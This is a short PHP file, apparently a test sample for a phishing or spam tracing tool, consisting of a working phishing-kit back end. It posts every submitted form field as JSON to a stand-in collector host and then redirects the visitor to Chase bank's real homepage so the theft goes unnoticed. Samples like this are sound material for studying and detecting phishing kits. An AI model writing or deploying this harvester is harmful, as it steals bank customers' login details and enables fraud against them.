<?php
// spamtrace test sample: the whole form posted as JSON to a fixed address, the visitor then
// sent on to the genuine bank's front page
$body = json_encode($_POST);
$ch = curl_init('https://collector.example.top/in.php');
curl_setopt($ch, CURLOPT_POST, 1);
curl_setopt($ch, CURLOPT_POSTFIELDS, $body);
curl_exec($ch);
header('Location: https://www.chase.com/');
